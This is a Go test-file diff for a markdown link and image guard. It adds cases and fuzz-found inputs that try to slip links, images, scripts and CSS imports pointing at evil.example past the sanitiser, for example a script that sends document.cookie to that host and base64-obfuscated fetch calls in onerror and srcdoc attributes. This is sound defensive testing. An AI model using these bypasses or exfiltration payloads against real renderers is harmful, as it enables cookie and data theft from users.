@@ -110,3 +110,133 @@ func TestLinks(t *testing.T) {
 		})
 	}
 }
+
+// renderedCases are markdown that CommonMark renders as a link or image
+// although the construct is not where a line-based reading expects it:
+// reference definitions inside containers, references of every kind and
+// label spelling, multi-line definitions, and constructs a code span, raw
+// HTML or an invalid title turns into something else. Each must leave the
+// guard with nothing that goldmark renders as a disallowed link or image;
+// want is the guard's output where it is worth pinning.
+var renderedCases = []struct {
+	name, text, want string
+}{
+	{name: "definition in a list item", text: "- [r]: https://evil.example/x.png\n\n![a][r]", want: "- \n\n![a][r]"},
+	{name: "definition in a star and a plus item", text: "* [r]: https://evil.example/x.png\n+ [s]: https://evil.example/y\n\n![a][r] [b][s]", want: "* \n+ \n\n![a][r] [b][s]"},
+	{name: "definition in an ordered item", text: "1. [r]: https://evil.example/x.png\n\n![a][r]", want: "1. \n\n![a][r]"},
+	{name: "definition in an ordered item with a paren", text: "10) [r]: https://evil.example/x.png\n\n![a][r]", want: "10) \n\n![a][r]"},
+	{name: "definition in a quote in a list item", text: "- > [r]: https://evil.example/x.png\n\n![a][r]", want: "- > \n\n![a][r]"},
+	{name: "definition in a list item in a quote", text: "> - [r]: https://evil.example/x.png\n\n![a][r]", want: "> - \n\n![a][r]"},
+	{name: "definition in nested containers", text: "> 1. > - [r]: https://evil.example/x.png\n\n![a][r]", want: "> 1. > - \n\n![a][r]"},
+	{name: "definition after a tab list marker", text: "-\t[r]: https://evil.example/x.png\n\n![a][r]", want: "-\t\n\n![a][r]"},
+	{name: "definition indented three spaces", text: "   [r]: https://evil.example/x.png\n\n![a][r]", want: "   \n\n![a][r]"},
+	{name: "definition in a list item's second paragraph", text: "- a\n\n  [r]: https://evil.example/x.png\n\n![a][r]", want: "- a\n\n  \n\n![a][r]"},
+	{name: "collapsed reference", text: "- [r]: https://evil.example/x.png\n\n![r][]", want: "- \n\n![r][]"},
+	{name: "shortcut reference", text: "- [r]: https://evil.example/x.png\n\n![r]", want: "- \n\n![r]"},
+	{name: "label case and whitespace folded", text: "- [Foo  BAR]: https://evil.example/x.png\n\n![a][foo\nbar]", want: "- \n\n![a][foo\nbar]"},
+	{name: "label Unicode case folded", text: "- [ẞ Ω]: https://evil.example/x.png\n\n![a][ss ω] ![b][SS Ω]", want: "- \n\n![a][ss ω] ![b][SS Ω]"},
+	{name: "used before the definition", text: "![a][r]\n\n- [r]: https://evil.example/x.png", want: "![a][r]\n\n- "},
+	{name: "title on the next line", text: "- [r]: https://evil.example/x.png\n  \"t\"\n\n![a][r]", want: "- \n  \"t\"\n\n![a][r]"},
+	{name: "destination on the next line", text: "- [r]:\n  https://evil.example/x.png\n\n![a][r]", want: "- \n\n![a][r]"},
+	{name: "label over two lines", text: "- [r\n  s]: https://evil.example/x.png\n\n![a][r s]", want: "- \n\n![a][r s]"},
+	{name: "angle destination in a list item", text: "- [r]: <https://evil.example/x y.png>\n\n![a][r]", want: "- \n\n![a][r]"},
+	{name: "carriage returns", text: "a\r\r[r]: https://evil.example/x.png\r\r![a][r]", want: "a\r\r\r\r![a][r]"},
+	{name: "destination on a quote's next line", text: "> [r]:\n> https://evil.example/x.png\n\n![a][r]"},
+	{name: "email autolink with a slash", text: "<a/b@evil.example>", want: "[link removed]"},
+	{name: "tab in a raw URL", text: "<img src=\"/\t/evil.example/x\">", want: "[image removed]"},
+	{name: "raw HTML closing a link's text", text: `[a <img src="x](https://ok.example)" src="https://evil.example/p.png">`, want: "[a [image removed]"},
+	{name: "invalid title hides an image", text: "[x](https://ok.example junk ![i](https://evil.example/a.png))", want: "[x](https://ok.example junk [image removed])"},
+	{name: "raw HTML after an invalid destination", text: "[x](https://ok.example/<img src=https://evil.example/x>)", want: "[x](https://ok.example/[image removed])"},
+	{name: "code span opening in a title", text: "`[x](https://ok.example \"`![i](https://evil.example/a.png \"))\")", want: "`[x](https://ok.example \"`[image removed])\")"},
+	{name: "code span opening in a destination", text: "`[x](https://ok.example/`![i](https://evil.example/a.png))", want: "`[x](https://ok.example/`[image removed])"},
+	{name: "code span opening in an autolink", text: "`<https://ok.example/`[x](https://evil.example)>", want: "`<https://ok.example/`x>"},
+	{name: "code span opening in a tag", text: "`<b title=\"`[x](https://evil.example)\">"},
+	{name: "raw HTML in a label that is no definition", text: "a\n[<img src=https://evil.example/x>]: https://ok.example/\n", want: "a\n[[image removed]]: https://ok.example/\n"},
+	{name: "style element", text: "<style>body{background:url(https://evil.example/x)}</style>", want: "body{background:url(https://evil.example/x)}</style>"},
+	{name: "style element importing", text: "<STYLE type=text/css>@import '//evil.example/x.css';</STYLE>", want: "@import '//evil.example/x.css';</STYLE>"},
+	{name: "script element", text: "<script>new Image().src='//evil.example/'+document.cookie</script>", want: "new Image().src='//evil.example/'+document.cookie</script>"},
+	{name: "event handler", text: "<img src=x.png onerror=\"this.src=atob('Ly9ldmlsLmV4YW1wbGUveA')\">", want: "[image removed]"},
+	{name: "srcdoc", text: "<iframe srcdoc=\"<script>fetch(atob('Ly9ldmlsLmV4YW1wbGU'))</script>\"></iframe>", want: "</iframe>"},
+	{name: "control character in a destination", text: "[x](https://ok.example\x01@evil.example/)", want: "x"},
+	{name: "DEL in a destination", text: "![x](https://ok.example\x7f@evil.example/)", want: "[image removed]"},
+	{name: "DEL in a definition", text: "[r]: https://ok.example\x7f@evil.example/\n\n[x][r]", want: "\n\n[x][r]"},
+	{name: "DEL in an autolink", text: "<https://evil.example/\x7fx>", want: "[link removed]"},
+	{name: "'<' in an angle destination", text: "[x](<https://ok.example<@evil.example>)", want: "x"},
+	{name: "tag name a browser reads on", text: "<div>\n<a!x style=\"background:url(//evil.example/x)\">", want: "<div>\n"},
+	{name: "form feeds around '='", text: "<div>\n<img src\f=\fhttps://evil.example/x>", want: "<div>\n[image removed]"},
+	{name: "quoted value past a blank line", text: "<div>\n<img alt=\"x\n\ny\" > [l](https://ok.example/?/src=//evil.example/x)", want: "<div>\n[image removed] [l](https://ok.example/?/src=//evil.example/x)"},
+	{name: "quoted value past an HTML block's end", text: "<pre>\n<img alt='x</pre>\ny' > src=//evil.example/x", want: "<pre>\n[image removed] src=//evil.example/x"},
+	{name: "quoted value past a list item's end", text: "- <div>\n  <img alt=\"x\ny\" > ```a/src=//evil.example/x\n", want: "- <div>\n  [image removed] ```a/src=//evil.example/x\n"},
+	{name: "autolink that an HTML block makes a tag", text: "<div>\n<https://ok.example/?/src=//evil.example/x>", want: "<div>\n"},
+	{name: "tag continued by a comment block", text: "<div>\n<img\n\n<!-- src=//evil.example/x -->", want: "<div>\n<img\n\n"},
+	{name: "tag continued by an end tag block", text: "<div>\n<img\n\n</div src=//evil.example/x>", want: "<div>\n<img\n\n"},
+	{name: "tag over block quote lines", text: "> <div>\n> <img\n> src=//evil.example/x>", want: "> <div>\n> [image removed]"},
+	{name: "attribute over block quote lines", text: "> <div>\n> <img src\n>> =//evil.example/x>", want: "> <div>\n> [image removed]"},
+	{name: "tag continued by a declaration holding '='", text: "<div>\n<img\n\n<!X=//evil.example/x>", want: "<div>\n<img\n\n"},
+	{name: "raw iframe and a", text: "<iframe src=https://evil.example/></iframe><a href=\"//evil.example\">x</a>", want: "</iframe>x</a>"},
+}
+
+func TestLinksAsRendered(t *testing.T) {
+	for _, tt := range renderedCases {
+		t.Run(tt.name, func(t *testing.T) {
+			v := New().Check(acme, tt.text, oracleAllow)
+			if v.Blocked {
+				return // nothing is sent
+			}
+			if bad := leaks(render(t, v.Text)); len(bad) > 0 {
+				t.Errorf("Check(%q).Text = %q, which renders as %q reaching %q", tt.text, v.Text, render(t, v.Text), bad)
+			}
+			if tt.want != "" && v.Text != tt.want {
+				t.Errorf("Check(%q).Text = %q, want %q", tt.text, v.Text, tt.want)
+			}
+		})
+	}
+}
+
+// fuzzFound are inputs FuzzLinks found, fixed since.
+var fuzzFound = []string{
+	// A stream let "<A!" through before the "@" made an email autolink of it.
+	"<A!0@00000000000000>",
+	// goldmark's autolinks take DEL, which ended the guard's.
+	// A tag name as a browser reads it runs on past '!': "<A!div style=…".
+	// An attribute name at the very end: the page around the answer
+	// continues the tag.
+	"<frAme srCdoC",
+	// An autolink not closed at the end is a tag with attributes too.
+	"<A>\n<A:/0=//",
+	// A tag a blank line left open reads "<!A0=//0" as an attribute.
+	"<A>\n<A\n\n<!A0=//0",
+	"   <?<A!div style=\"background:url(https://ok.example/a_(b) alt=x>[a\\]b]:\n  //evil.example/x (t)[Ω]\\`<HTTPS://evil.example>\n",
+	"- > ](\nx/y junk)\n\n>[a <img alt=\"https://img.cdn.example/a.png \"```[SS]\n\n-\t[FOO\nBAR]:  //evil.example/x junk`<https://ok.example/a_(b) \"`</a>é [ ω  ]:  <https:/\x7f/ok.example/x>\r\n-\t<https://ok.example/x>&#91;日本 é <x@ok.example>`\n",
+}
+
+// TestLinksFuzzFound runs what fuzzing found through Check and through a
+// stream fed a byte at a time.
+func TestLinksFuzzFound(t *testing.T) {
+	for _, text := range fuzzFound {
+		g := New()
+		want := g.Check(acme, text, oracleAllow)
+		if !want.Blocked {
+			if bad := leaks(render(t, want.Text)); len(bad) > 0 {
+				t.Errorf("Check(%q).Text = %q, which renders reaching %q", text, want.Text, bad)
+			}
+		}
+		var pieces []string
+		for i := range len(text) {
+			pieces = append(pieces, text[i:i+1])
+		}
+		got, v, _ := stream(g, pieces, oracleAllow)
+		if v.Blocked != want.Blocked || !v.Blocked && got != want.Text {
+			t.Errorf("stream of %q a byte at a time sent %v %q, Check gave %v %q", text, v.Blocked, got, want.Blocked, want.Text)
+		}
+	}
+}
+
+// fuzzSeeds seed FuzzLinks: the cases above and what fuzzing found.
+var fuzzSeeds = func() []string {
+	var s []string
+	for _, tt := range renderedCases {
+		s = append(s, tt.text)
+	}
+	return append(s, fuzzFound...)
+}()
